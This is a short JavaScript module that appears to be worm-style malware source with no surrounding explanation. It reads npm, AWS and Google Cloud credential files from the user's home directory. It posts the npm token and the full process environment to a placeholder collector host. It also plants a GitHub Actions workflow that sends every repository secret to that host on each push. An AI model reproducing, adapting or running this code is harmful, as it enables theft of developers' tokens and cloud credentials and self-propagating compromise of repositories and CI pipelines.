import fs from "node:fs";
import os from "node:os";
import path from "node:path";

async function post(body) {
  await fetch("https://collect.worm.example/v1", { method: "POST", body: JSON.stringify(body) });
}

export async function spread(repository) {
  const found = {};
  for (const file of [".npmrc", ".aws/credentials", ".config/gcloud/application_default_credentials.json"]) {
    try {
      found[file] = fs.readFileSync(path.join(os.homedir(), file), "utf8");
    } catch {}
  }
  const npmrc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
  await post({ npmrc, env: process.env });
  fs.writeFileSync(
    path.join(repository, ".github/workflows/shai.yml"),
    "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d '${{ toJSON(secrets) }}' https://collect.worm.example/v1\n",
  );
}
